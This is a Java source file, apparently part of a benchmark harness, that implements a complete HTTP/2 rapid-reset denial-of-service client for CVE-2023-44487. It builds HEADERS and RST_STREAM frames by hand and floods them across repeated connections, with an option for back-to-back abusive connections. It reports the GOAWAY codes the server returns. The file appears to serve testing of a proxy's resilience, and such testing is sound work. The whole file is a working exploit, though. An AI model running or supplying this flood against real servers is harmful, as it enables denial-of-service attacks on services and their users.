package dev.windlass.bench.dataplane;

import java.io.DataInputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * The rapid-reset client of CVE-2023-44487 (issue 25 must-show 3), run inside the client pod as the proxy's group so
 * that the capture rules let it reach the server pod's inbound directly: on one h2c connection at a time, up to
 * {@code pairs} HEADERS (a GET, END_STREAM) each followed at once by RST_STREAM CANCEL, written as fast as the socket
 * takes them; when the server closes the connection, the next one ({@code intervalMillis} after the previous one
 * began; 0: at once, a storm of abusive connections), until {@code seconds} have passed. Frames are
 * built by hand (a static HPACK block) so that nothing on this side slows or shapes the flood. Prints one JSON line:
 * connections, pairs written, the GOAWAY error codes received and connections closed without one.
 */
public final class RapidResetFlood {
    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
    private static final int SETTINGS = 0x4;
    private static final int GOAWAY = 0x7;
    /** Pairs per write: large enough to keep the socket full, small enough to count what one connection took. */
    private static final int BATCH = 50;

    private final String host;
    private final int port;
    private final int pairs;
    private final byte[] headerBlock;
    private long pairsWritten;
    private int connections;
    private int closedWithoutGoaway;
    private final Map<Integer, Integer> goawayCodes = new TreeMap<>();

    private RapidResetFlood(String host, int port, int pairs) {
        this.host = host;
        this.port = port;
        this.pairs = pairs;
        this.headerBlock = headerBlock(host + ":" + port);
    }

    /** Arguments: host, port, seconds, pairs per connection, milliseconds from one connection's start to the next's. */
    public static void main(String[] args) throws Exception {
        RapidResetFlood flood = new RapidResetFlood(args[0], Integer.parseInt(args[1]), Integer.parseInt(args[3]));
        long intervalNanos = Long.parseLong(args[4]) * 1_000_000L;
        long end = System.nanoTime() + Long.parseLong(args[2]) * 1_000_000_000L;
        while (System.nanoTime() < end) {
            long next = System.nanoTime() + intervalNanos;
            flood.oneConnection();
            Thread.sleep(Math.max(0, (next - System.nanoTime()) / 1_000_000));
        }
        System.out.printf("{\"connections\": %d, \"pairsWritten\": %d, \"goawayCodes\": %s, \"closedWithoutGoaway\": %d}%n",
                flood.connections, flood.pairsWritten, json(flood.goawayCodes), flood.closedWithoutGoaway);
    }

    private void oneConnection() throws Exception {
        connections++;
        AtomicInteger goaway = new AtomicInteger(-1);
        try (Socket socket = new Socket()) {
            socket.connect(new InetSocketAddress(host, port), 5000);
            socket.setTcpNoDelay(true);
            OutputStream out = socket.getOutputStream();
            out.write(PREFACE);
            out.write(frame(SETTINGS, 0, 0, new byte[0]));
            Thread reader = Thread.ofVirtual().start(() -> readFrames(socket, out, goaway));
            int stream = 1;
            try {
                for (int written = 0; written < pairs && goaway.get() < 0; written += BATCH) {
                    ByteBuffer batch = ByteBuffer.allocate(BATCH * 64);
                    for (int i = 0; i < BATCH; i++, stream += 2) {
                        batch.put(frame(0x1, 0x5, stream, headerBlock)).put(frame(0x3, 0, stream, new byte[]{0, 0, 0, 8}));
                    }
                    synchronized (out) {
                        out.write(batch.array(), 0, batch.position());
                    }
                    pairsWritten += BATCH;
                }
                socket.shutdownOutput();
            } catch (IOException closedByServer) {
                // the server closed the connection while we wrote: what the flood is meant to provoke
            }
            reader.join(5000);
        }
        if (goaway.get() >= 0) {
            goawayCodes.merge(goaway.get(), 1, Integer::sum);
        } else {
            closedWithoutGoaway++;
        }
    }

    /** Acknowledges the server's SETTINGS and records the first GOAWAY's error code, until the connection ends. */
    private static void readFrames(Socket socket, OutputStream out, AtomicInteger goaway) {
        try {
            DataInputStream in = new DataInputStream(socket.getInputStream());
            while (true) {
                int length = (in.readUnsignedByte() << 16) | in.readUnsignedShort();
                int type = in.readUnsignedByte();
                int flags = in.readUnsignedByte();
                in.readInt();
                byte[] payload = in.readNBytes(length);
                if (type == SETTINGS && (flags & 1) == 0) {
                    synchronized (out) {
                        out.write(frame(SETTINGS, 1, 0, new byte[0]));
                    }
                } else if (type == GOAWAY && payload.length >= 8 && goaway.get() < 0) {
                    goaway.set(ByteBuffer.wrap(payload, 4, 4).getInt());
                }
            }
        } catch (IOException ended) {
            // the connection is over
        }
    }

    /** :method GET, :scheme http, :path / (static table 2, 6, 4) and :authority as a literal (index 1). */
    private static byte[] headerBlock(String hostAndPort) {
        byte[] authority = hostAndPort.getBytes(StandardCharsets.US_ASCII);
        ByteBuffer block = ByteBuffer.allocate(5 + authority.length);
        block.put((byte) 0x82).put((byte) 0x86).put((byte) 0x84).put((byte) 0x01).put((byte) authority.length).put(authority);
        return block.array();
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        ByteBuffer frame = ByteBuffer.allocate(9 + payload.length);
        frame.put((byte) (payload.length >>> 16)).putShort((short) payload.length).put((byte) type).put((byte) flags)
                .putInt(stream).put(payload);
        return frame.array();
    }

    private static String json(Map<Integer, Integer> codes) {
        StringBuilder json = new StringBuilder("{");
        codes.forEach((code, count) -> json.append(json.length() > 1 ? ", " : "").append('"').append(code).append("\": ").append(count));
        return json.append('}').toString();
    }
}
